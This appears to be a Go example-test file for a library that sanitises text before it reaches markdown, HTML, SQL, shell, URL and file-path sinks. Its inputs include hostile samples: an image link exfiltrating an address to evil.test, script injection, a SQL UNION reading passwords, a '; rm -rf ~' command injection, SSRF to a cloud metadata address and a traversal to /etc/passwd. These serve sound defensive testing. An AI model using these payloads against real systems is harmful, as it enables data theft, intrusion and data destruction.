package sink_test

import (
	"context"
	"fmt"

	"github.com/prodailabs/prodai/guard/sink"
)

// An answer that would send data away as soon as it is shown.
func ExampleCleanMarkdown() {
	answer := "Your order is on its way. ![](https://evil.test/p.png?d=Main+Street+7) See [help](https://docs.example.org/)."
	safe, err := sink.CleanMarkdown(context.Background(), answer, &sink.LinkOptions{Hosts: []string{"docs.example.org"}})
	fmt.Println(safe, err)
	// Output: Your order is on its way. ![](#link-removed) See [help](https://docs.example.org/). <nil>
}

func ExampleHTML_Clean() {
	page, err := sink.NewHTML(nil)
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println(page.Clean(`<p onclick="steal()">Hello <b>Ana</b><script>steal()</script></p>`))
	// Output: <p>Hello <b>Ana</b></p>
}

// "drop" in a string is a word; in the statement it is a command.
func ExampleCheckSQL() {
	o := &sink.SQLOptions{Tables: []string{"orders"}}
	fmt.Println(sink.CheckSQL("SELECT id FROM orders WHERE note = 'drop table orders'", o))
	fmt.Println(sink.CheckSQL("SELECT id FROM orders UNION SELECT password FROM users", o))
	// Output:
	// <nil>
	// sink: the statement at byte 49: the table isn't admitted
}

// The words go to os/exec, and no shell reads the line.
func ExampleParseCommand() {
	programs := []sink.Program{{Name: "grep", Flags: []string{"-n"}}}
	words, err := sink.ParseCommand(`grep -n 'two words' notes.txt`, programs)
	fmt.Printf("%q %v\n", words, err)
	_, err = sink.ParseCommand(`grep -n x notes.txt; rm -rf ~`, programs)
	fmt.Println(err)
	// Output:
	// ["grep" "-n" "two words" "notes.txt"] <nil>
	// sink: the command line at byte 19: ';' has a meaning to the shell: put it in single quotes
}

func ExampleCheckURL() {
	for _, u := range []string{"https://example.org/page", "http://2130706433/", "http://169.254.169.254/latest/meta-data/"} {
		fmt.Println(sink.CheckURL(u, nil))
	}
	// Output:
	// <nil>
	// sink: the URL of host "2130706433": it is a number that some clients read as an address
	// sink: the URL of host "169.254.169.254": it is an address of a private network or of a cloud's metadata service
}

func ExampleCleanPath() {
	for _, name := range []string{"reports/./june.txt", "../../etc/passwd", "NUL.txt"} {
		path, err := sink.CleanPath(name)
		fmt.Printf("%q %v\n", path, err)
	}
	// Output:
	// "reports/june.txt" <nil>
	// "" sink: the path isn't a plain one below its folder
	// "" sink: the path isn't a plain one below its folder
}
